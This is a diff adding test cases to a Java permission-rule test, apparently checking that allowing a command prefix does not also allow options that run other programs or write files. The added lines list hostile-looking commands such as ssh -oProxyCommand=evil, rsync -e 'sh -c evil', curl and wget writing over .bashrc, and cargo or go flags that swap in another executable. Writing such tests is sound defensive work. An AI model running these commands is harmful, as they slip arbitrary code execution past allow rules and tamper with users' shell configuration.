@@ -80,6 +80,19 @@ class CommandPatternTest {
         "awk:*      % awk 'BEGIN{system(\"x\")}'",
         "awk:*      % awk -F : 'BEGIN{system(\"x\")}'",
         "gawk:*     % gawk '{print > \"f\"}' x",
+        "rsync:*    % rsync -e 'sh -c evil' a b:",
+        "rsync:*    % rsync -ave evil a b:",
+        "rsync:*    % rsync --rsh=evil a b:",
+        "ssh:*      % ssh -oProxyCommand=evil host",
+        "ssh host:* % ssh host -o LocalCommand=evil",
+        "zip:*      % zip x.zip y -T -TT evil",
+        "curl:*     % curl -sSLo .bashrc https://example.org",
+        "curl:*     % curl -K evil",
+        "wget:*     % wget -O .bashrc https://example.org",
+        "wget:*     % wget --execute use_proxy=on https://example.org",
+        "go test:*  % go test -exec evil ./...",
+        "go vet:*   % go vet -vettool=evil ./...",
+        "cargo b:*  % cargo b --config build.rustc-wrapper=evil",
         "tar:*      % tar --to-command=evil -xf x"
       })
   void aPrefixDoesNotCoverOptionsThatRunOrWrite(String rule, String line) {
